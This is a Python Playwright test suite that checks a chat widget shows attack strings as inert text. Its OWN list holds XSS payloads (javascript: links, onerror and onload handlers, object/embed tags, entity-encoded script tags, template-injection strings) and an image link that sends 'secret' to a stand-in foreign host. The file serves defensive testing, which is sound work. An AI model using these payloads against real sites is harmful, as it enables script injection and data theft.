"""No prefix of any attack, in any place where the widget shows what others write, is more than text."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Browser

from tests.widget.payloads import Stage, open_stage, rows_of
from tests.widget.test_nothing_runs import PAYLOADS

CASES = Path(__file__).parent / "cases" / "xss_payloads.jsonl"
OWN = [
    *PAYLOADS,
    "[a](https://shop.example/)[b](javascript:alert(1))",
    "<javascript:alert(1)> <JAVASCRIPT:alert(1)>",
    "[a](//foreign.example/%0ajavascript:alert(1))",
    "![](https://foreign.example/?d=secret)\n\n![a](data:image/svg+xml,<svg onload=alert(1)>)",
    "- <img src=x onerror=alert(1)>\n- [a](\x01javascript:alert(1))",
    "> <object data=javascript:alert(1)><embed src=//foreign.example>",
    "<a href='&#106;avascript:alert(1)'>a</a> &#60;script&#62;alert(1)&#60;/script&#62;",
    '```"onmouseover=alert(1)\n</code></pre><img src=x onerror=alert(1)>\n```',
    "__proto__ constructor ${alert(1)} {{constructor.constructor('alert(1)')()}}",
]


@pytest.fixture(scope="module")
def stage(browser: Browser) -> Iterator[Stage]:
    with open_stage(browser) as running:
        yield running


def test_every_prefix_of_an_answer_is_shown_here(stage: Stage) -> None:
    words = "Within sixty days. " * 3

    seen = stage.play(words)

    assert seen.states >= len(words.replace(" ", ""))


def test_a_page_that_would_run_something_is_seen_to(stage: Stage) -> None:
    stage.play("x")
    stage.page.evaluate("alert(1); document.body.append(document.createElement('iframe'))")
    seen = stage.play("x")
    stage.page.evaluate("document.querySelector('iframe').remove()")

    assert any("iframe in the page" in each for each in seen.found)


@pytest.mark.parametrize("text", OWN)
def test_an_attack_of_our_own_stays_text(stage: Stage, text: str) -> None:
    assert stage.play(text).found == []


def test_published_attacks_stay_text(stage: Stage) -> None:
    rows = rows_of(CASES)
    assert len(rows) >= 40
    assert {row["id"]: found for row in rows if (found := stage.play(row["text"]).found)} == {}
